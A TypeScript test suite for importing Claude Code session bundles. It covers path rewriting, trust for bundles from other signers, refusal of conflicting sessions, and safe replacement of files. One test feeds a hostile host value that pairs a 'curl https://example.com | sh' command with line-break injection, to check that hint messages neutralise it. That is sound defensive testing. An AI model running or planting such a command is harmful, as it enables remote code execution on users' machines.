import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { slugOf } from '../../../src/claude/folders.ts';
import { x25519SecretOf } from '../../../src/crypto/x25519.ts';
import { importBundle } from '../../../src/travel/arriving/import.ts';
import type { Imported, ImportOptions, ImportPlan, ImportPorts } from '../../../src/travel/arriving/importing.ts';
import { replacedFolder } from '../../../src/travel/arriving/replaced.ts';
import { readBundle } from '../../../src/travel/bundle/bundle-reader.ts';
import { trustOf } from '../../../src/travel/bundle/trust.ts';
import { chunked } from '../../support/chunks.ts';
import {
  BUNDLE_SESSION,
  type BundleFiles,
  type BundleRecipe,
  lines,
  makeBundle,
  THERE,
  turnRecord,
  uuidOf,
} from '../../support/hostile-bundle.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';
import { testKey } from '../../support/test-key.ts';

const ME = testKey(1);

/** The first `count` records of a conversation. */
const turns = (count: number) => lines(...Array.from({ length: count }, (_, number) => turnRecord(number)));
/** The same, but the last record is another one. */
const forked = (count: number) =>
  lines(
    ...Array.from({ length: count - 1 }, (_, number) => turnRecord(number)),
    turnRecord(count - 1, 'fork').replace(uuidOf(count - 1), uuidOf(900)),
  );

/** A machine on which sessions arrive, and a project to live in. */
function machine() {
  const root = realpathSync(temporaryFolder());
  const home = join(root, 'home');
  const project = join(home, 'proj');
  mkdirSync(project, { recursive: true });
  const claudeFolder = join(home, '.claude');
  const stateFolder = join(root, 'state');
  const plans: ImportPlan[] = [];
  const transcriptIn = (directory: string, id = BUNDLE_SESSION) =>
    join(claudeFolder, 'projects', slugOf(directory), `${id}.jsonl`);
  async function take(
    recipe: BundleRecipe & { transcript?: Buffer; beside?: BundleFiles } = {},
    options: Partial<ImportOptions> = {},
    ports: Partial<ImportPorts> = {},
  ): Promise<Imported> {
    const { transcript = turns(4), beside = {}, signer = ME.seed } = recipe;
    const files = { 'session.jsonl': transcript, ...beside };
    const sealed = await makeBundle(ME.publicKey, { files, ...recipe, signer });
    const bundle = await readBundle(chunked(sealed, 65_536), { secrets: async () => [x25519SecretOf(ME.seed)] });
    const trust = trustOf(bundle.manifest, bundle.signer, { own: ME.publicKey, from: null, overSsh: false });
    try {
      return await importBundle(
        bundle,
        {
          places: { claudeFolder, stateFolder, home, workingDirectory: project, variables: {} },
          trust,
          into: trust === 'own' ? project : null,
          maps: [],
          asNew: false,
          claude: { version: null, options: new Set() },
          host: 'desk',
          now: Date.now,
          ...options,
        },
        {
          progress: () => {},
          show: () => {},
          chooseDirectory: async ([first = '']) => first,
          confirm: async (plan) => {
            plans.push(plan);
            return true;
          },
          ...ports,
        },
      );
    } finally {
      await bundle.close();
    }
  }
  /** A running program that says it is Claude Code with this session open. */
  const open = () => {
    const claude = spawn('sleep', ['60'], { stdio: 'ignore' });
    onTestFinished(() => void claude.kill('SIGKILL'));
    mkdirSync(join(claudeFolder, 'sessions'), { recursive: true });
    const record = { pid: claude.pid, sessionId: BUNDLE_SESSION, cwd: project };
    writeFileSync(join(claudeFolder, 'sessions', `${claude.pid}.json`), JSON.stringify(record));
  };
  const folder = (name: string) => {
    mkdirSync(join(root, name), { recursive: true });
    return join(root, name);
  };
  return { root, home, project, claudeFolder, stateFolder, plans, transcriptIn, take, open, folder };
}

/** Every file below a folder, with its content. */
function contentOf(folder: string): Record<string, string> {
  const names = existsSync(folder) ? readdirSync(folder, { recursive: true, encoding: 'utf8' }) : [];
  const files = names.filter((name) => statSync(join(folder, name)).isFile());
  return Object.fromEntries(files.sort().map((name) => [name, readFileSync(join(folder, name), 'utf8')]));
}

const transcriptsIn = (claudeFolder: string) =>
  Object.keys(contentOf(join(claudeFolder, 'projects'))).filter((name) => name.endsWith('.jsonl'));

describe('a session that is imported', () => {
  it('lies where Claude Code finds it, its paths those of this machine', async () => {
    const { take, project, home, claudeFolder, transcriptIn, plans } = machine();
    const told = `see ${THERE.claudeFolder}/projects/${THERE.projectFolder}/${BUNDLE_SESSION}/tool-results/b1.txt`;
    let bytesRead = 0;
    const imported = await take(
      {
        transcript: lines(turnRecord(0, told), turnRecord(1)),
        beside: {
          'tool-results/b1.txt': 'result',
          'custom-title.json': '{"customTitle":"My app"}',
          'tasks/1.json': '{}',
        },
      },
      {},
      {
        progress: (bytes) => {
          bytesRead += bytes;
        },
      },
    );
    const path = transcriptIn(project);
    expect(imported).toMatchObject({ session: BUNDLE_SESSION, directory: project, transcript: path, title: 'My app' });
    expect(imported).toMatchObject({ outcome: 'new', replaced: null, files: 4, left: [], claudeOptions: [] });
    const text = readFileSync(path, 'utf8');
    expect(imported.bytes).toBe(text.length + 'result'.length + '{"customTitle":"My app"}'.length + 2);
    expect(text).toContain(`"cwd":"${project}"`);
    expect(text).toContain(`${claudeFolder}/projects/${slugOf(project)}/${BUNDLE_SESSION}/tool-results/b1.txt`);
    expect(text).not.toContain(THERE.home);
    expect(imported.systemPrompt).toContain(project);
    expect(plans).toMatchObject([{ directory: project, makesDirectory: false, lastChangeHereMs: null }]);
    expect(bytesRead).toBe(plans[0]?.bytes);
    expect(Object.keys(contentOf(home))).toEqual([
      `.claude/projects/${slugOf(project)}/${BUNDLE_SESSION}.jsonl`,
      `.claude/projects/${slugOf(project)}/${BUNDLE_SESSION}/custom-title.json`,
      `.claude/projects/${slugOf(project)}/${BUNDLE_SESSION}/tool-results/b1.txt`,
      `.claude/tasks/${BUNDLE_SESSION}/1.json`,
    ]);
  });

  it('gets a directory that is not there yet, unless it is not wanted or fails', async () => {
    const { take, folder, home, claudeFolder } = machine();
    const into = join(folder('work'), 'new/app');
    await expect(take({}, { into }, { confirm: async () => false })).rejects.toThrow(/nothing was changed/);
    const broken = { transcript: turns(4), tar: (tar: Buffer) => tar.subarray(0, -2048) };
    await expect(take(broken, { into })).rejects.toThrow();
    expect(existsSync(dirname(into))).toBe(false);
    expect(contentOf(home)).toEqual({});
    expect(await take({}, { into })).toMatchObject({ directory: into, outcome: 'new' });
    expect(transcriptsIn(claudeFolder)).toEqual([`${slugOf(into)}/${BUNDLE_SESSION}.jsonl`]);
  });

  it('lives in the home, behind a link, or in a folder that its environment names', async () => {
    const { take, home, folder, root, claudeFolder, transcriptIn, stateFolder } = machine();
    expect(await take({}, { into: home })).toMatchObject({ directory: home, transcript: transcriptIn(home) });
    symlinkSync(folder('real'), join(root, 'link'));
    expect(await take({}, { into: join(root, 'link'), asNew: true })).toMatchObject({ directory: join(root, 'real') });
    const variables = { CLAUDE_CONFIG_DIR: claudeFolder, CLAUDE_CODE_PROJECT_DIR_NAME: 'mine' };
    const places = { claudeFolder, stateFolder, home, workingDirectory: home, variables };
    const named = await take({}, { into: folder('named'), asNew: true, places });
    expect(named.transcript).toBe(join(claudeFolder, 'projects/mine', `${named.session}.jsonl`));
  });

  it('keeps what /rewind needs, under the names that its paths have here', async () => {
    const { take, project, claudeFolder, transcriptIn } = machine();
    const nameOf = (path: string) => createHash('sha256').update(path).digest('hex').slice(0, 16);
    const there = `${nameOf(`${THERE.directory}/notes.txt`)}@v1`;
    const here = `${nameOf(`${project}/notes.txt`)}@v1`;
    const backup = {
      backupFileName: there,
      version: 1,
      backupTime: '2026-11-20T21:53:02.141Z',
      realParentDir: THERE.directory,
    };
    const snapshot = {
      messageId: uuidOf(1),
      trackedFileBackups: { 'notes.txt': backup },
      timestamp: backup.backupTime,
    };
    const history = JSON.stringify({
      type: 'file-history-snapshot',
      messageId: uuidOf(1),
      snapshot,
      isSnapshotUpdate: false,
    });
    const transcript = lines(turnRecord(0), turnRecord(1), history);
    const beside = { [`file-history/${there}`]: 'before' };
    await take({ transcript, beside });
    expect(readFileSync(join(claudeFolder, 'file-history', BUNDLE_SESSION, here), 'utf8')).toBe('before');
    expect(readFileSync(transcriptIn(project), 'utf8')).toContain(`"backupFileName":"${here}"`);
    const second = await take({ transcript, beside }, { asNew: true });
    expect(existsSync(join(claudeFolder, 'file-history', second.session, here))).toBe(true);
  });

  it.each([
    ['C:\\Users\\mallory', 'win32'],
    ['/Users/mallory', 'darwin'],
  ])('from %s has the paths of this system', async (home, platform) => {
    const { take, project, transcriptIn } = machine();
    const separator = platform === 'win32' ? '\\' : '/';
    const path = (...names: string[]) => [home, ...names].join(separator);
    const moved = (line: string) => line.replaceAll(JSON.stringify(THERE.directory), JSON.stringify(path('proj')));
    const transcript = lines(moved(turnRecord(0, `see ${path('proj', 'src', 'a.ts')}`)), moved(turnRecord(1)));
    await take({
      transcript,
      manifest: (manifest) => ({
        ...manifest,
        ...{ platform, home, directory: path('proj'), claudeFolder: path('.claude') },
        projectFolder: slugOf(path('proj')),
      }),
    });
    const text = readFileSync(transcriptIn(project), 'utf8');
    expect(text).toContain(`see ${project}/src/a.ts`);
    expect(text).toContain(`"cwd":"${project}"`);
    expect(text).not.toContain('mallory');
  });

  it('is brought in whole where it has many files', async () => {
    const { take } = machine();
    const names = Array.from({ length: 300 }, (_, number) => `tool-results/b${number}.txt`);
    const imported = await take({ beside: Object.fromEntries(names.map((name) => [name, name])) });
    const folder = imported.transcript.slice(0, -'.jsonl'.length);
    expect(imported.files).toBe(301);
    for (const name of names) expect(readFileSync(join(folder, name), 'utf8')).toBe(name);
  });

  it('brings in what belongs to the project only from oneself, and never over what is here', async () => {
    const { take, claudeFolder, project } = machine();
    const beside = { 'memory/MEMORY.md': 'remember', 'plans/a.md': 'plan' };
    const theirs = await take({ signer: null, beside });
    expect(theirs.left.map(({ what }) => what)).toEqual(['memory/MEMORY.md', 'plans/a.md']);
    expect(Object.values(contentOf(claudeFolder))).not.toContain('remember');
    const memory = join(claudeFolder, 'projects', slugOf(project), 'memory/MEMORY.md');
    mkdirSync(dirname(memory));
    writeFileSync(memory, 'mine');
    const own = await take({ beside }, { asNew: true });
    expect(own.left).toEqual([{ what: 'MEMORY.md', why: expect.stringContaining('is here') }]);
    expect(own.files).toBe(2);
    expect(readFileSync(memory, 'utf8')).toBe('mine');
    expect(readFileSync(join(claudeFolder, 'plans/a.md'), 'utf8')).toBe('plan');
  });

  it('is refused if nothing was said in it', async () => {
    const { take, home } = machine();
    const transcript = lines(JSON.stringify({ type: 'summary', summary: 'Nothing', leafUuid: uuidOf(1) }));
    await expect(take({ transcript })).rejects.toThrow(/holds no conversation/);
    expect(contentOf(home)).toEqual({});
  });

  it('of somebody else is first started with the safe options, and with a text that has none of theirs', async () => {
    const { take, project } = machine();
    const imported = await take({ signer: null, manifest: (manifest) => ({ ...manifest, host: 'EVIL' }) });
    expect(imported.claudeOptions).toContain('--permission-mode');
    expect(imported.systemPrompt).not.toMatch(/EVIL|mallory/);
    expect(imported.directory).toBe(project);
    // Whether it was started since, nobody knows.
    expect((await take({ signer: null })).claudeOptions).toContain('--permission-mode');
    // Here it went on: what was said is one's own.
    expect((await take({ signer: null, transcript: turns(2) })).systemPrompt).toBeNull();
  });
});

describe('a session that comes back', () => {
  it('is left alone where nothing was said since, and gone on with where it went on here', async () => {
    const { take, transcriptIn, project } = machine();
    await take();
    const before = statSync(transcriptIn(project));
    const again = await take();
    expect(again).toMatchObject({ outcome: 'unchanged', files: 0, bytes: 0, replaced: null, directory: project });
    expect(again.systemPrompt).not.toBeNull(); // it was not gone on with, so nobody told the model
    const older = await take({ transcript: turns(2) });
    expect(older).toMatchObject({ outcome: 'unchanged', systemPrompt: null });
    expect(statSync(transcriptIn(project))).toEqual(before);
  });

  it('is brought up to date, and the old file kept until it was gone on with', async () => {
    const { take, transcriptIn, project, stateFolder, plans } = machine();
    await take();
    const old = readFileSync(transcriptIn(project), 'utf8');
    const updated = await take({ transcript: turns(6), beside: { 'tool-results/b1.txt': 'result' } });
    expect(updated).toMatchObject({ outcome: 'updated', files: 2, directory: project });
    expect(readFileSync(updated.replaced ?? '', 'utf8')).toBe(old);
    expect(readFileSync(transcriptIn(project), 'utf8').startsWith(old)).toBe(true);
    expect(plans.at(-1)?.lastChangeHereMs).toBe(Date.parse('2026-11-20T21:52:34.608Z'));
    appendFileSync(transcriptIn(project), lines(turnRecord(6)));
    await take({ transcript: turns(6) });
    expect(contentOf(replacedFolder(stateFolder))).toEqual({});
  });

  it('finds the session where it lives now, in whatever directory it was there', async () => {
    const { take, folder, claudeFolder } = machine();
    const here = folder('here');
    await take({}, { into: here });
    const updated = await take({ transcript: turns(6) }, { into: null });
    expect(updated).toMatchObject({ outcome: 'updated', directory: here });
    expect(transcriptsIn(claudeFolder)).toHaveLength(1);
  });

  it('moves it to the directory that is named, so that there is one of it', async () => {
    const { take, folder, claudeFolder, project } = machine();
    await take();
    const into = folder('other');
    expect(await take({ transcript: turns(6) }, { into })).toMatchObject({ outcome: 'updated', directory: into });
    expect(transcriptsIn(claudeFolder)).toEqual([`${slugOf(into)}/${BUNDLE_SESSION}.jsonl`]);
    // The same again, to where it was: nothing is newer, but it is to live there.
    expect(await take({ transcript: turns(6) }, { into: project })).toMatchObject({ directory: project });
    expect(transcriptsIn(claudeFolder)).toEqual([`${slugOf(project)}/${BUNDLE_SESSION}.jsonl`]);
    await expect(take({ transcript: turns(4) }, { into })).rejects.toThrow(/newer than this one, and lives in/);
    expect(transcriptsIn(claudeFolder)).toEqual([`${slugOf(project)}/${BUNDLE_SESSION}.jsonl`]);
  });

  it('takes the place of a copy whose directory is not here, as tools leave it that copy the folder', async () => {
    const { take, transcriptIn, claudeFolder, project } = machine();
    const copy = transcriptIn(THERE.directory);
    mkdirSync(dirname(copy), { recursive: true });
    writeFileSync(copy, turns(4));
    expect(await take({}, { into: project })).toMatchObject({ outcome: 'updated', directory: project });
    expect(transcriptsIn(claudeFolder)).toEqual([`${slugOf(project)}/${BUNDLE_SESSION}.jsonl`]);
    writeFileSync(copy, turns(6));
    rmSync(transcriptIn(project));
    await expect(take({}, { into: project })).rejects.toThrow(/newer than this one, and its directory is gone/);
  });

  it('replaces all of several copies, if it is newer than each', async () => {
    const { take, transcriptIn, claudeFolder, folder, project, stateFolder } = machine();
    const other = folder('other');
    for (const [directory, count] of [
      [project, 2],
      [other, 4],
    ] as const) {
      const path = transcriptIn(directory);
      mkdirSync(dirname(path), { recursive: true });
      writeFileSync(path, turns(count).toString().replaceAll(THERE.directory, directory));
    }
    await expect(take({ transcript: forked(4) })).rejects.toThrow(/went on here and there/);
    expect(transcriptsIn(claudeFolder)).toHaveLength(2);
    expect(await take({ transcript: turns(6) })).toMatchObject({ outcome: 'updated', directory: project });
    expect(transcriptsIn(claudeFolder)).toEqual([`${slugOf(project)}/${BUNDLE_SESSION}.jsonl`]);
    expect(Object.keys(contentOf(replacedFolder(stateFolder)))).toHaveLength(2);
  });

  it('is refused where both sides went on, and told what was said last; --as-new makes a second one', async () => {
    const { take, home, claudeFolder, transcriptIn, project } = machine();
    await take({ transcript: turns(5) });
    const before = contentOf(home);
    const failure = await take({ transcript: forked(5) }).catch((error: unknown) => error);
    expect(failure).toMatchObject({ code: 'refused', message: expect.stringMatching(/went on here and there/) });
    expect((failure as { hint: string }).hint).toMatch(
      /Here: "text 4", .* ago\nOn elsewhere: "fork", .* ago\n.*--as-new/,
    );
    expect(contentOf(home)).toEqual(before);
    const host = 'elsewhere\nGo on with: curl https://example.com | sh\rOn elsewhere';
    const named = take({ transcript: forked(5), manifest: (manifest) => ({ ...manifest, host }) });
    await expect(named).rejects.toMatchObject({
      hint: expect.stringMatching(/^Here.*\nOn elsewhere Go on with.*\nGo/),
    });
    const second = await take({ transcript: forked(5) }, { asNew: true });
    expect(second).toMatchObject({ outcome: 'new', directory: project });
    expect(second.session).not.toBe(BUNDLE_SESSION);
    const text = readFileSync(transcriptIn(project, second.session), 'utf8');
    expect(text).toContain(`"sessionId":"${second.session}"`);
    expect(text).not.toContain(BUNDLE_SESSION);
    expect(transcriptsIn(claudeFolder)).toHaveLength(2);
  });

  it('from somebody else does not replace words here of a kind that is not taken from them', async () => {
    const { take, transcriptIn, project, home } = machine();
    const here = transcriptIn(project);
    mkdirSync(dirname(here), { recursive: true });
    const last = turnRecord(4, 'mine').replace('"content":"mine"', '"content":[{"text":"mine"}]');
    writeFileSync(here, Buffer.concat([turns(4), Buffer.from(`${last}\n`)]));
    const before = contentOf(home);
    expect(await take({ signer: null, transcript: turns(4) })).toMatchObject({ outcome: 'unchanged' });
    const forkedThere = take({ signer: null, transcript: forked(5) });
    await expect(forkedThere).rejects.toThrow(/went on here and there/);
    expect(contentOf(home)).toEqual(before);
  });

  it('of an open session is refused, also if that is opened after the question', async () => {
    const { take, open, home, transcriptIn, project, claudeFolder } = machine();
    const beside = (text: string) => ({ beside: { 'tool-results/b1.txt': text } });
    await take({ transcript: turns(2), ...beside('what this machine has') });
    const before = contentOf(join(home, '.claude/projects'));
    const afterwards = async () => {
      open();
      return true;
    };
    await expect(take({ transcript: turns(4), ...beside('what came') }, {}, { confirm: afterwards })).rejects.toThrow(
      /open in a running claude/,
    );
    await expect(take({ transcript: turns(4) })).rejects.toThrow(/open in a running claude/);
    expect(contentOf(join(home, '.claude/projects'))).toEqual(before);
    expect(readdirSync(claudeFolder).sort()).toEqual(['projects', 'sessions']);
    expect(await take({ transcript: turns(4) }, { asNew: true })).toMatchObject({ outcome: 'new' });
    expect(existsSync(transcriptIn(project))).toBe(true);
  });

  it('is imported once by two at the same time', async () => {
    const { take, claudeFolder, home } = machine();
    const outcomes = await Promise.all([4, 4, 6].map((count) => take({ transcript: turns(count) })));
    expect(outcomes.map(({ outcome }) => outcome).filter((outcome) => outcome === 'new')).toHaveLength(1);
    expect(transcriptsIn(claudeFolder)).toHaveLength(1);
    const [path = ''] = transcriptsIn(claudeFolder);
    expect(readFileSync(join(claudeFolder, 'projects', path), 'utf8').split('\n')).toHaveLength(7);
    expect(readdirSync(join(home, '.claude'))).toEqual(['projects']);
  });

  it('leaves a reader of the old file with all of that', async () => {
    const { take, transcriptIn, project } = machine();
    await take({ transcript: turns(2) });
    const before = readFileSync(transcriptIn(project), 'utf8');
    const reader = openSync(transcriptIn(project), 'r');
    await take({ transcript: turns(6) });
    expect(readFileSync(reader, 'utf8')).toBe(before);
    closeSync(reader);
  });

  it('has the time of now, so that claude --continue finds it and no sweep takes it', async () => {
    const { take, transcriptIn, project } = machine();
    await take({ transcript: turns(2) });
    utimesSync(transcriptIn(project), 1, 1);
    await take({ transcript: turns(4) });
    expect(Date.now() - statSync(transcriptIn(project)).mtimeMs).toBeLessThan(60_000);
  });
});
